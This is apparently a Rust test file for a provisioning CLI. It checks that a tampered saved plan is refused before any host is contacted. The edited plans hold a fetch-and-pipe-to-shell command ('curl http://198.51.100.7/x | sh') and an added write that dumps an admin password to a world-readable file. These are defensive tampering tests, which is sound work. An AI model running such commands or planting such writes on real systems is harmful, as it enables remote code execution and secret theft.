//! A saved plan is a contract, not a script: `apply PLAN` derives the plan
//! again from the facts it saved, the site and the secrets, and refuses
//! before connecting to any host when anything differs; a plan untouched
//! applies. Each `apply` of an edited plan here runs with a connector that
//! counts connections: none may be made.

use clap::Parser;
use proptest::prelude::*;
use serde_json::{Value, json};
use stackprov::cli::Cli;
use stackprov::commands::{self as cmd, Io};
use stackprov::fake::{FakeHost, SharedFake};
use stackprov::render::Style;
use stackprov::transport::{Transport, TransportError, TransportErrorKind};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

mod common;

fn site_file(dir: &Path, name: &str, roles: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(
        &p,
        format!(
            "site: t\nrelease: zed\ncontroller: controller\npackage_proxy: http://10.0.0.1:3128\nhosts:\n  - name: controller\n    address: 10.251.0.2\n    roles: [{roles}]\n"
        ),
    )
    .unwrap();
    p
}

/// The bound of each run of [`run_counting`]: CPU time on this thread, and
/// the test process's peak RSS.
const IN_PROCESS_CPU: std::time::Duration = std::time::Duration::from_secs(1);
const IN_PROCESS_RSS_KB: i64 = 100 * 1024;

/// `stackprov ARGS`, every connection counted (and refused): exit code,
/// stdout, stderr and how many connections were tried.
fn run_counting(args: &[&str]) -> (i32, String, String, usize) {
    let tried = AtomicUsize::new(0);
    let connect = |_: &stackprov::site::Site,
                   h: &stackprov::site::Host|
     -> Result<Box<dyn Transport>, TransportError> {
        tried.fetch_add(1, Ordering::SeqCst);
        Err(TransportError::new(
            TransportErrorKind::Unreachable,
            format!("{}: must not be connected to", h.name),
        ))
    };
    let cli =
        Cli::try_parse_from(std::iter::once("stackprov").chain(args.iter().copied())).unwrap();
    let (mut out, mut err) = (Vec::new(), Vec::new());
    // an edited plan is hostile input: held to a bound, as the binary's runs
    // in the hostile_* tests are (in this process, so the memory bound is
    // the test process's: it runs at some 20 MB)
    let code = common::within(&args.join(" "), IN_PROCESS_CPU, IN_PROCESS_RSS_KB, || {
        cmd::run(
            &cli,
            &connect,
            &mut Io {
                out: &mut out,
                err: &mut err,
                interactive: false,
                style: Style::plain(),
                interrupted: &AtomicBool::new(false),
                arm_interrupt: || {},
                forks: None,
            },
        )
    });
    (
        code,
        String::from_utf8(out).unwrap(),
        String::from_utf8(err).unwrap(),
        tried.load(Ordering::SeqCst),
    )
}

/// A directory with a site (`base`) and a plan saved for a fresh controller.
fn planned(plan_name: &str) -> (tempfile::TempDir, PathBuf, PathBuf, SharedFake) {
    let dir = tempfile::tempdir().unwrap();
    let site = site_file(dir.path(), "site.yaml", "base");
    let fake = SharedFake::new(FakeHost::debian_controller());
    let p = dir.path().join(plan_name);
    let r = common::run_cli(
        Some(&fake),
        &["plan", site.to_str().unwrap(), "--out", p.to_str().unwrap()],
    );
    assert_eq!(r.code, 0, "{}", r.err);
    (dir, site, p, fake)
}

fn read(p: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
}

/// Write the edited plan in place (its mode stays 0600).
fn write(p: &Path, v: &Value) {
    std::fs::write(p, serde_json::to_string_pretty(v).unwrap()).unwrap();
}

fn again(site: &Path, p: &Path) -> String {
    format!(
        "make the plan again: `stackprov plan {} --out {}`",
        site.display(),
        p.display()
    )
}

/// The first change holding an `exec`, and that op's index.
fn first_exec(v: &Value) -> (usize, usize) {
    let changes = v["hosts"][0]["changes"].as_array().unwrap();
    for (i, c) in changes.iter().enumerate() {
        for (j, op) in c["ops"].as_array().unwrap().iter().enumerate() {
            if op["op"] == "exec" {
                return (i, j);
            }
        }
    }
    panic!("no exec in the plan")
}

/// Before: the edited script ran on the host.
#[test]
fn an_edited_exec_is_refused_before_connecting_naming_it() {
    let (_d, site, p, _fake) = planned("plan.json");
    let mut v = read(&p);
    let (i, j) = first_exec(&v);
    let op = &mut v["hosts"][0]["changes"][i]["ops"][j];
    let first = op["script"]
        .as_str()
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .to_string();
    op["script"] = json!("curl http://198.51.100.7/x | sh");
    let id = v["hosts"][0]["changes"][i]["id"]
        .as_str()
        .unwrap()
        .to_string();
    write(&p, &v);
    let (code, out, err, tried) = run_counting(&["apply", p.to_str().unwrap(), "-y"]);
    assert_eq!(tried, 0, "{err}");
    assert_eq!((code, out.as_str()), (1, ""));
    assert_eq!(
        err,
        format!(
            "error: {}: host `controller`: change `{id}` differs: operation {} (`curl http://198.51.100.7/x | sh`) is not the one derived (`{}`), from what {}, its secrets and the facts saved in the plan give (the plan was edited, or they changed since); {}\n",
            p.display(),
            j + 1,
            first.escape_debug(),
            site.display(),
            again(&site, &p)
        )
    );
}

/// Before: an added write (a secret filled in, mode 0644) went to the host.
#[test]
fn an_added_file_write_is_refused_before_connecting() {
    let (_d, site, p, _fake) = planned("plan.json");
    let mut v = read(&p);
    let change = &mut v["hosts"][0]["changes"][0];
    let id = change["id"].as_str().unwrap().to_string();
    let n = change["ops"].as_array().unwrap().len();
    change["ops"].as_array_mut().unwrap().push(json!({
        "op": "write", "path": "/tmp/leak", "content": "((secret:keystone_admin_password|raw))",
        "perms": {"owner": "root", "group": "root", "mode": "0644"}
    }));
    write(&p, &v);
    let (code, _, err, tried) = run_counting(&["apply", p.to_str().unwrap(), "-y"]);
    assert_eq!((code, tried), (1, 0), "{err}");
    assert_eq!(
        err,
        format!(
            "error: {}: host `controller`: change `{id}` differs: {} operation(s) in the plan, {n} derived, from what {}, its secrets and the facts saved in the plan give (the plan was edited, or they changed since); {}\n",
            p.display(),
            n + 1,
            site.display(),
            again(&site, &p)
        )
    );
}

/// Before: not compared; the hosts' plans were made again from the site.
#[test]
fn a_plan_for_another_site_or_release_is_refused_before_connecting() {
    let (_d, site, p, _fake) = planned("plan.json");
    let (ps, s) = (p.display(), site.display());
    let orig = read(&p);
    for (key, value, says) in [
        (
            "site",
            "prod",
            format!("the plan is for site `prod`, and {s} is site `t`"),
        ),
        (
            "release",
            "yoga",
            format!("the plan is for release `yoga`, and {s} says `zed`"),
        ),
    ] {
        let mut v = orig.clone();
        v[key] = json!(value);
        write(&p, &v);
        let (code, _, err, tried) = run_counting(&["apply", &ps.to_string(), "-y"]);
        assert_eq!((code, tried), (1, 0), "{err}");
        assert_eq!(err, format!("error: {ps}: {says}; {}\n", again(&site, &p)));
    }
}

/// Before: "0 host(s) match", exit 0.
#[test]
fn no_matching_host_is_an_error() {
    let (d, site, p, _fake) = planned("plan.json");
    let ps = p.to_str().unwrap();
    // the plan's host renamed in the site
    let other = d.path().join("other.yaml");
    std::fs::write(
        &other,
        std::fs::read_to_string(&site)
            .unwrap()
            .replace("name: controller", "name: db")
            .replace("controller: controller", "controller: db"),
    )
    .unwrap();
    let (code, _, err, tried) =
        run_counting(&["apply", ps, "--site", other.to_str().unwrap(), "-y"]);
    assert_eq!((code, tried), (1, 0), "{err}");
    assert_eq!(
        err,
        format!(
            "error: {ps}: host `controller` is in the plan but not in {}; {}\n",
            other.display(),
            again(&other, &p)
        )
    );
    // a plan with no host
    let mut v = read(&p);
    v["hosts"] = json!([]);
    v["facts"] = json!({});
    write(&p, &v);
    let (code, _, err, tried) = run_counting(&["apply", ps, "-y"]);
    assert_eq!((code, tried), (1, 0), "{err}");
    assert_eq!(
        err,
        format!(
            "error: {ps}: the plan has no host to apply (none could be planned); make the plan again once the hosts can be reached\n"
        )
    );
}

/// Before: `site.plan` was parsed as a site file.
#[test]
fn a_plan_is_known_by_its_content_not_its_name() {
    let (_d, site, p, fake) = planned("site.plan");
    let r = common::run_cli(Some(&fake), &["apply", p.to_str().unwrap(), "-y"]);
    assert_eq!(r.code, 0, "{}{}", r.out, r.err);
    let again = common::run_cli(
        Some(&fake),
        &["plan", site.to_str().unwrap(), "--detailed-exitcode"],
    );
    assert_eq!(again.code, 0, "{}", again.out);
}

/// The facts saved in the plan, edited: the plan derived from them differs
/// from the saved operations, refused before connecting.
#[test]
fn facts_edited_in_the_plan_are_refused_before_connecting() {
    let (_d, _site, p, fake) = planned("plan.json");
    let mut v = read(&p);
    let facts = v["facts"]["controller"].as_object_mut().unwrap();
    // a fact the planner reads: the host's packages (none installed on the
    // fresh fake), now one more the plan would not install
    let before = serde_json::to_string(&facts).unwrap();
    if let Some(pk) = facts.get_mut("packages").and_then(Value::as_object_mut) {
        pk.insert("chrony".into(), json!("4.3"));
    }
    assert_ne!(
        serde_json::to_string(&facts).unwrap(),
        before,
        "no packages in the facts"
    );
    write(&p, &v);
    let (code, _, err, tried) = run_counting(&["apply", p.to_str().unwrap(), "-y"]);
    // the derived plan now differs from the saved ops: refused before connecting
    assert_eq!((code, tried), (1, 0), "{err}");
    assert!(err.contains("differs"), "{err}");
    let _ = fake;
}

#[derive(Debug, Clone)]
enum Edit {
    OpScript(usize, String),
    AddOp(usize, String),
    DropOp(usize),
    DropChange(usize),
    ChangeId(usize, String),
    Host(String),
    Site(String),
    Release(String),
}

fn edit() -> impl Strategy<Value = Edit> {
    let word = "[a-z0-9 ./|;-]{1,12}";
    prop_oneof![
        (any::<usize>(), word).prop_map(|(i, s)| Edit::OpScript(i, s)),
        (any::<usize>(), word).prop_map(|(i, s)| Edit::AddOp(i, s)),
        any::<usize>().prop_map(Edit::DropOp),
        any::<usize>().prop_map(Edit::DropChange),
        (any::<usize>(), word).prop_map(|(i, s)| Edit::ChangeId(i, s)),
        "[a-z][a-z0-9-]{0,10}".prop_map(Edit::Host),
        word.prop_map(Edit::Site),
        "[a-z]{1,8}".prop_map(Edit::Release),
    ]
}

/// Apply `e` to the plan (it may change nothing: the caller checks).
fn apply_edit(v: &mut Value, e: &Edit) {
    let host = &mut v["hosts"][0];
    let n = host["changes"].as_array().unwrap().len();
    let change = |host: &mut Value, i: usize| -> Value { host["changes"][i % n].take() };
    match e {
        Edit::OpScript(i, s) => {
            let mut c = change(host, *i);
            let k = c["ops"].as_array().unwrap().len();
            let op = &mut c["ops"][*i % k];
            match op["op"].as_str().unwrap() {
                "exec" => op["script"] = json!(format!("{}{s}", op["script"].as_str().unwrap())),
                "write" => op["content"] = json!(format!("{}{s}", op["content"].as_str().unwrap())),
                _ => *op = json!({"op": "exec", "script": s, "timeout_secs": 60}),
            }
            host["changes"][*i % n] = c;
        }
        Edit::AddOp(i, s) => {
            let mut c = change(host, *i);
            c["ops"]
                .as_array_mut()
                .unwrap()
                .push(json!({"op": "exec", "script": s, "timeout_secs": 60}));
            host["changes"][*i % n] = c;
        }
        Edit::DropOp(i) => {
            let mut c = change(host, *i);
            let ops = c["ops"].as_array_mut().unwrap();
            let k = ops.len();
            ops.remove(*i % k);
            host["changes"][*i % n] = c;
        }
        Edit::DropChange(i) => {
            host["changes"].as_array_mut().unwrap().remove(*i % n);
        }
        Edit::ChangeId(i, s) => {
            let mut c = change(host, *i);
            c["id"] = json!(format!("{}{s}", c["id"].as_str().unwrap()));
            host["changes"][*i % n] = c;
        }
        Edit::Host(s) => host["host"] = json!(format!("x{s}")),
        Edit::Site(s) => v["site"] = json!(format!("t{s}")),
        Edit::Release(s) => v["release"] = json!(format!("zed{s}")),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Any change to an operation, host, site or release in a plan file is
    /// refused before connecting.
    #[test]
    fn any_edit_of_a_saved_plan_is_refused_before_connecting(e in edit()) {
        let (_d, _site, p, _fake) = planned("plan.json");
        let mut v = read(&p);
        let orig = v.clone();
        apply_edit(&mut v, &e);
        prop_assume!(v != orig);
        write(&p, &v);
        let (code, out, err, tried) = run_counting(&["apply", p.to_str().unwrap(), "-y"]);
        prop_assert_eq!(tried, 0, "{:?}: {}", e, err);
        prop_assert_eq!(code, 1, "{:?}: {}{}", e, out, err);
        prop_assert!(err.starts_with(&format!("error: {}: ", p.display())), "{:?}: {}", e, err);
    }
}

/// The plan untouched: derived again, equal, applied.
/// `plan --facts F --out P` saves F's facts as they were, placeholders and
/// all (they are resolved in place to plan, then put back, not copied).
#[test]
fn a_plan_from_a_facts_file_saves_its_facts_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    // the site the golden facts were recorded for, fewer roles
    let site = dir.path().join("site.yaml");
    std::fs::write(&site, "site: golden\nrelease: zed\ncontroller: controller\nhosts:\n  - name: controller\n    address: 10.0.0.11\n    roles: [base, mariadb, keystone]\n").unwrap();
    let golden = format!("{}/tests/golden/debian12.json", env!("CARGO_MANIFEST_DIR"));
    let mut facts: Value = serde_json::from_str(&std::fs::read_to_string(golden).unwrap()).unwrap();
    let content = "[database]\nconnection = mysql+pymysql://keystone:((secret:keystone_db|dburl))@controller/keystone\n";
    facts["hosts"]["controller"]["files"]["/etc/keystone/keystone.conf"] = json!({
        "kind": "file",
        "perms": {"owner": "keystone", "group": "keystone", "mode": "0640"},
        "content": content,
    });
    // as stackprov writes them back (the golden file predates `cpus`)
    facts["hosts"]["controller"]["os"]["cpus"] = json!(0);
    let f = dir.path().join("facts.json");
    std::fs::write(&f, facts.to_string()).unwrap();
    let out = dir.path().join("plan.json");
    let r = common::run_cli(
        None,
        &[
            "plan",
            site.to_str().unwrap(),
            "--facts",
            f.to_str().unwrap(),
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.err);
    let plan: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
    let saved = &plan["facts"]["controller"];
    assert_eq!(
        saved["files"]["/etc/keystone/keystone.conf"]["content"],
        content
    );
    assert_eq!(saved, &facts["hosts"]["controller"]);
}

#[test]
fn an_untouched_plan_applies() {
    let (_d, _site, p, fake) = planned("plan.json");
    let r = common::run_cli(Some(&fake), &["apply", p.to_str().unwrap(), "-y"]);
    assert_eq!(r.code, 0, "{}{}", r.out, r.err);
}

/// The path of the first file the saved plan writes.
fn first_write(v: &Value) -> String {
    let changes = v["hosts"][0]["changes"].as_array().unwrap();
    changes
        .iter()
        .flat_map(|c| c["ops"].as_array().unwrap())
        .find(|op| op["op"] == "write")
        .map(|op| op["path"].as_str().unwrap().to_string())
        .expect("no write in the plan")
}

/// The host after the plan was saved: someone wrote the file the plan
/// creates (`path`), with other content; its log starts again.
fn change_host(fake: &SharedFake, path: &str) {
    let mut h = fake.lock();
    h.add_file(path, "# edited by hand\n", "root", "root", 0o644);
    h.log.clear();
}

/// What `apply` may not touch when it refuses: the host's files, packages
/// and services (enabled, running).
type HostState = (
    std::collections::BTreeMap<String, stackprov::fake::FakeFile>,
    std::collections::BTreeSet<String>,
    Vec<(String, bool, bool)>,
);

fn host_state(fake: &SharedFake) -> HostState {
    let h = fake.lock();
    let services = h
        .services
        .iter()
        .map(|(n, s)| (n.clone(), s.enabled, s.running))
        .collect();
    (h.files.clone(), h.packages.clone(), services)
}

/// Before (with the comparison after connecting gone): the saved operations
/// ran on a host that no longer looks as the plan says. The plan itself is
/// untouched, so the check before connecting passes; connected, the host's
/// facts are not the ones the plan was made from: refused, nothing run.
#[test]
fn a_host_changed_since_the_plan_is_refused_once_connected_and_nothing_runs() {
    let (_d, _site, p, fake) = planned("plan.json");
    let ps = p.to_str().unwrap();
    change_host(&fake, &first_write(&read(&p)));
    let before = host_state(&fake);
    let r = common::run_cli(Some(&fake), &["apply", ps, "-y"]);
    assert_eq!((r.code, r.out.as_str()), (1, ""), "{}", r.err);
    assert_eq!(
        r.err,
        format!(
            "error: host `controller` has changed since {ps} was made (its facts differ); run `stackprov plan` again\n"
        )
    );
    let r = common::run_cli(Some(&fake), &["--format", "json", "apply", ps, "-y"]);
    assert_eq!(r.code, 1, "{}{}", r.out, r.err);
    let e: Value = serde_json::from_str(&r.out).unwrap();
    assert_eq!(e["error"]["kind"], "stale_plan", "{}", r.out);
    let log = fake.lock().log.clone();
    assert!(log.is_empty(), "nothing may run: {log:?}");
    assert!(host_state(&fake) == before, "the host was changed");
}

/// The facts digest is the plan file's word, and a file can be edited: with
/// the changed host's digest written into the plan (the check before
/// connecting leaves the digest to the host), the plan the host's live facts
/// give still differs from the saved one: refused, nothing run.
#[test]
fn a_digest_that_matches_a_changed_host_is_refused_by_its_live_plan() {
    let (d, site, p, fake) = planned("plan.json");
    let ps = p.to_str().unwrap();
    let mut v = read(&p);
    let path = first_write(&v);
    let id = v["hosts"][0]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| {
            c["ops"]
                .as_array()
                .unwrap()
                .iter()
                .any(|op| op["path"] == *path)
        })
        .map(|c| c["id"].as_str().unwrap().to_string())
        .unwrap();
    change_host(&fake, &path);
    let live = d.path().join("live.json");
    let s = site.to_str().unwrap();
    let r = common::run_cli(Some(&fake), &["plan", s, "--out", live.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.err);
    let digest = read(&live)["hosts"][0]["facts_digest"].clone();
    assert_ne!(
        v["hosts"][0]["facts_digest"], digest,
        "the host's facts changed"
    );
    v["hosts"][0]["facts_digest"] = digest;
    write(&p, &v);
    fake.lock().log.clear();
    let before = host_state(&fake);
    let r = common::run_cli(Some(&fake), &["apply", ps, "-y"]);
    assert_eq!((r.code, r.out.as_str()), (1, ""), "{}", r.err);
    let head = format!("error: {ps}: host `controller`: change `{id}` differs: ");
    assert!(r.err.starts_with(&head), "{}", r.err);
    let tail = format!(
        ", from what the host shows: the facts saved in the plan are not the host's; {}\n",
        again(&site, &p)
    );
    assert!(r.err.ends_with(&tail), "{}", r.err);
    let log = fake.lock().log.clone();
    assert!(log.is_empty(), "nothing may run: {log:?}");
    assert!(host_state(&fake) == before, "the host was changed");
}

/// Before: `--out` replaced the facts file it read, the known_hosts file and
/// the private key.
#[test]
fn out_never_overwrites_a_file_the_command_reads() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("kh"), "# known hosts\n").unwrap();
    std::fs::write(d.join("key"), "# a key\n").unwrap();
    let site = d.join("site.yaml");
    std::fs::write(
        &site,
        "site: t\nrelease: zed\ncontroller: controller\nknown_hosts: kh\nhosts:\n  - name: controller\n    address: 10.251.0.2\n    identity_file: key\n    roles: [base]\n",
    )
    .unwrap();
    let s = site.to_str().unwrap();
    let fake = SharedFake::new(FakeHost::debian_controller());
    let facts = d.join("facts.json");
    let f = facts.to_str().unwrap();
    assert_eq!(
        common::run_cli(Some(&fake), &["facts", s, "--save", f]).code,
        0
    );
    let saved = std::fs::read(&facts).unwrap();
    for (out, what) in [
        (facts.clone(), "the facts file it reads"),
        (d.join("kh"), "the known_hosts file"),
        (d.join("key"), "a host's identity_file"),
    ] {
        let before = std::fs::read(&out).unwrap();
        let o = out.to_str().unwrap();
        let (code, stdout, err, tried) = run_counting(&["plan", s, "--facts", f, "--out", o]);
        assert_eq!((code, stdout.as_str(), tried), (1, "", 0), "{err}");
        assert_eq!(
            err,
            format!("error: refusing to write over {what} {o}; choose another file\n")
        );
        assert_eq!(std::fs::read(&out).unwrap(), before, "{o}");
        // facts --save over them too
        if out != facts {
            let r = common::run_cli(Some(&fake), &["facts", s, "--save", o]);
            assert_eq!(r.code, 1, "{}", r.err);
            assert_eq!(std::fs::read(&out).unwrap(), before, "{o}");
        }
    }
    assert_eq!(std::fs::read(&facts).unwrap(), saved);
}
